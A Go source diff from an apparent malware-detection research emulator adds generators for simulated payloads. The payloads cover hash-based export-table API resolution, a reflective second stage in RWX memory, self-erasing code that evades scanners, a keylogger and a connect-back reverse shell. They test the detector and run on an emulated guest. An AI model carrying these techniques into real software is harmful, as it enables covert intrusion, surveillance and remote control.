@@ -1,0 +1,257 @@
+package samples
+
+import (
+	"fmt"
+
+	"faros/internal/guest"
+	"faros/internal/guest/gnet"
+	"faros/internal/isa"
+	"faros/internal/peimg"
+)
+
+// PayloadSpec describes an injected payload. Payloads are raw
+// position-independent FAROS-32 code: they resolve every API they use by
+// manually walking the kernel export table (the reflective-loader
+// technique), which is exactly the behaviour FAROS' tag-confluence policy
+// keys on.
+type PayloadSpec struct {
+	// Message, when set, pops a MessageBoxA with this text.
+	Message string
+	// SecondStage, when set, VirtualAllocs a fresh RWX buffer, copies an
+	// embedded second-stage blob into it, and calls it — the reflective
+	// DLL "loads itself" step. The second stage shows Message instead of
+	// the first stage doing so.
+	SecondStage bool
+	// SelfErase zeroes the payload's executed prologue before entering the
+	// resident tail loop, evading snapshot scanners (transient attack).
+	SelfErase bool
+	// Keylog, when set, makes the payload a keylogger writing keystrokes to
+	// this file forever (the hollowing payload of the paper's Lab 3-3).
+	Keylog string
+	// ConnectBack, when set, connects to this address, sends Beacon, then
+	// echoes received commands to the console (a remote shell).
+	ConnectBack *gnet.Addr
+	Beacon      string
+	// ExitHost, when set, terminates the host process at the end instead of
+	// sleeping resident.
+	ExitHost bool
+
+	// secondStageLeaf marks the embedded stage built by SecondStage: it
+	// ends with RET so the first stage regains control.
+	secondStageLeaf bool
+}
+
+// resolveSub emits the export-table walk subroutine at label "resolve":
+// EBX = name hash in, EAX = address out (0 if not found). Preserves
+// ECX/EDX/ESI; clobbers EDI. Every Ld against the table is a read of
+// export-table-tagged memory — when this code itself carries netflow or
+// foreign-process provenance, FAROS flags the confluence.
+func resolveSub(pb *isa.Block) {
+	pb.Label("resolve")
+	pb.Push(isa.ECX).Push(isa.EDX).Push(isa.ESI)
+	pb.Movi(isa.ECX, guest.ExportTableBase)
+	pb.Ld(isa.EDX, isa.ECX, 0) // entry count
+	pb.Movi(isa.ESI, 0)
+	pb.Label("r_loop")
+	pb.Cmp(isa.ESI, isa.EDX)
+	pb.Jge("r_fail")
+	pb.Mov(isa.EAX, isa.ESI)
+	pb.Shli(isa.EAX, 3)
+	pb.Add(isa.EAX, isa.ECX)
+	pb.Ld(isa.EDI, isa.EAX, 4) // name hash
+	pb.Cmp(isa.EDI, isa.EBX)
+	pb.Jz("r_found")
+	pb.Addi(isa.ESI, 1)
+	pb.Jmp("r_loop")
+	pb.Label("r_found")
+	pb.Ld(isa.EAX, isa.EAX, 8) // function pointer
+	pb.Jmp("r_out")
+	pb.Label("r_fail")
+	pb.Movi(isa.EAX, 0)
+	pb.Label("r_out")
+	pb.Pop(isa.ESI).Pop(isa.EDX).Pop(isa.ECX)
+	pb.Ret()
+}
+
+// emitResolveTo emits "resolve(hash(name)) into reg" (reg must not be EAX
+// if it should survive further resolves; EDI is clobbered).
+func emitResolveTo(pb *isa.Block, name string, reg isa.Reg) {
+	pb.Movi(isa.EBX, peimg.HashName(name))
+	pb.Call("resolve")
+	if reg != isa.EAX {
+		pb.Mov(reg, isa.EAX)
+	}
+}
+
+// BuildPayload assembles the payload described by spec.
+func BuildPayload(spec PayloadSpec) []byte {
+	pb := isa.NewBlock()
+	pb.Label("p0")
+	pb.Jmp("entry") // skip over the resolver
+	resolveSub(pb)
+	pb.Label("entry")
+
+	// The reflective-loader ritual: resolve the three functions the paper
+	// names (LoadLibraryA, GetProcAddress, VirtualAlloc) by hash.
+	emitResolveTo(pb, "LoadLibraryA", isa.EAX)
+	emitResolveTo(pb, "GetProcAddress", isa.EAX)
+	emitResolveTo(pb, "VirtualAlloc", isa.EAX)
+	pb.Push(isa.EAX) // keep VirtualAlloc
+
+	var stage2 []byte
+	if spec.SecondStage {
+		stage2 = BuildPayload(PayloadSpec{Message: spec.Message, ExitHost: false, secondStageLeaf: true})
+	}
+
+	switch {
+	case spec.SecondStage:
+		// VirtualAlloc(self, anywhere, len(stage2), rwx)
+		pb.Pop(isa.EDI)
+		pb.Movi(isa.EBX, 0)
+		pb.Movi(isa.ECX, 0)
+		pb.Movi(isa.EDX, uint32(len(stage2)))
+		pb.Movi(isa.ESI, 7)
+		pb.CallReg(isa.EDI)
+		pb.Mov(isa.EBP, isa.EAX)
+		// copy stage2 into the allocation
+		pb.LeaSelf(isa.ESI, "stage2")
+		pb.Movi(isa.ECX, 0)
+		pb.Label("cp")
+		pb.Cmpi(isa.ECX, uint32(len(stage2)))
+		pb.Jge("cp_done")
+		pb.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
+		pb.StbIdx(isa.EBP, isa.ECX, isa.EAX)
+		pb.Addi(isa.ECX, 1)
+		pb.Jmp("cp")
+		pb.Label("cp_done")
+		pb.CallReg(isa.EBP) // run the loaded stage (returns)
+	default:
+		pb.Pop(isa.EAX) // discard VirtualAlloc
+		if spec.Message != "" {
+			emitResolveTo(pb, "MessageBoxA", isa.EDX)
+			pb.LeaSelf(isa.EBX, "msg")
+			pb.CallReg(isa.EDX)
+		}
+	}
+
+	if spec.Keylog != "" {
+		emitKeylogBody(pb)
+	}
+	if spec.ConnectBack != nil {
+		emitConnectBackBody(pb, *spec.ConnectBack, uint32(len(spec.Beacon)+1))
+	}
+
+	switch {
+	case spec.secondStageLeaf:
+		pb.Ret()
+	case spec.ExitHost:
+		emitResolveTo(pb, "ExitProcess", isa.EDX)
+		pb.Movi(isa.EBX, 0)
+		pb.CallReg(isa.EDX)
+	default:
+		// Resident tail: resolve Sleep once, optionally erase the executed
+		// prologue, then sleep forever.
+		emitResolveTo(pb, "Sleep", isa.EBP)
+		if spec.SelfErase {
+			pb.LeaSelf(isa.EBX, "p0")
+			pb.LeaSelf(isa.EDX, "tail")
+			pb.Movi(isa.EAX, 0)
+			pb.Label("erase")
+			pb.Cmp(isa.EBX, isa.EDX)
+			pb.Jge("tail")
+			pb.Stb(isa.EBX, 0, isa.EAX)
+			pb.Addi(isa.EBX, 1)
+			pb.Jmp("erase")
+		}
+		pb.Label("tail")
+		pb.Movi(isa.EBX, 5000)
+		pb.CallReg(isa.EBP)
+		pb.Jmp("tail")
+	}
+
+	// Data pool.
+	if spec.Message != "" && !spec.SecondStage {
+		pb.Label("msg").DataString(spec.Message)
+	}
+	if spec.Keylog != "" {
+		pb.Label("logname").DataString(spec.Keylog)
+		pb.Label("kbuf").Space(64)
+	}
+	if spec.ConnectBack != nil {
+		pb.Label("cbip").DataString(spec.ConnectBack.IP)
+		pb.Label("beacon").DataString(spec.Beacon)
+		pb.Label("cbuf").Space(128)
+	}
+	if spec.SecondStage {
+		pb.Align(isa.InstrSize)
+		pb.Label("stage2").Data(stage2)
+	}
+
+	code, err := pb.Assemble(0)
+	if err != nil {
+		panic(fmt.Sprintf("samples: payload: %v", err))
+	}
+	return code
+}
+
+// emitKeylogBody emits the hollowing keylogger: create the log file, then
+// poll the keyboard forever, appending keystrokes. Every API is resolved by
+// export walk each time (lazy binding), multiplying the tagged reads.
+func emitKeylogBody(pb *isa.Block) {
+	emitResolveTo(pb, "CreateFileA", isa.EDX)
+	pb.LeaSelf(isa.EBX, "logname")
+	pb.CallReg(isa.EDX)
+	pb.Mov(isa.EBP, isa.EAX) // log handle, persistent
+
+	pb.Label("kl_loop")
+	emitResolveTo(pb, "ReadKeyboard", isa.EDX)
+	pb.LeaSelf(isa.EBX, "kbuf")
+	pb.Movi(isa.ECX, 32)
+	pb.CallReg(isa.EDX) // EAX = n
+	pb.Cmpi(isa.EAX, 0)
+	pb.Jz("kl_sleep")
+	pb.Mov(isa.EDX, isa.EAX) // n (resolve preserves EDX)
+	emitResolveTo(pb, "WriteFile", isa.ESI)
+	pb.Mov(isa.EBX, isa.EBP)
+	pb.LeaSelf(isa.ECX, "kbuf")
+	pb.CallReg(isa.ESI)
+	pb.Label("kl_sleep")
+	emitResolveTo(pb, "Sleep", isa.EDX)
+	pb.Movi(isa.EBX, 800)
+	pb.CallReg(isa.EDX)
+	pb.Jmp("kl_loop")
+}
+
+// emitConnectBackBody emits a reverse shell: connect to the attacker, send
+// a beacon, then echo each received command until the flow closes.
+func emitConnectBackBody(pb *isa.Block, addr gnet.Addr, beaconLen uint32) {
+	emitResolveTo(pb, "Socket", isa.EDX)
+	pb.CallReg(isa.EDX)
+	pb.Mov(isa.EBP, isa.EAX) // socket handle
+
+	emitResolveTo(pb, "Connect", isa.ESI)
+	pb.Mov(isa.EBX, isa.EBP)
+	pb.LeaSelf(isa.ECX, "cbip")
+	pb.Movi(isa.EDX, uint32(addr.Port))
+	pb.CallReg(isa.ESI)
+
+	emitResolveTo(pb, "Send", isa.ESI)
+	pb.Mov(isa.EBX, isa.EBP)
+	pb.LeaSelf(isa.ECX, "beacon")
+	pb.Movi(isa.EDX, beaconLen)
+	pb.CallReg(isa.ESI)
+
+	pb.Label("sh_loop")
+	emitResolveTo(pb, "Recv", isa.ESI)
+	pb.Mov(isa.EBX, isa.EBP)
+	pb.LeaSelf(isa.ECX, "cbuf")
+	pb.Movi(isa.EDX, 64)
+	pb.CallReg(isa.ESI) // EAX = n
+	pb.Cmpi(isa.EAX, 0)
+	pb.Jz("sh_done")
+	emitResolveTo(pb, "DebugPrint", isa.ESI)
+	pb.LeaSelf(isa.EBX, "cbuf")
+	pb.CallReg(isa.ESI)
+	pb.Jmp("sh_loop")
+	pb.Label("sh_done")
+}
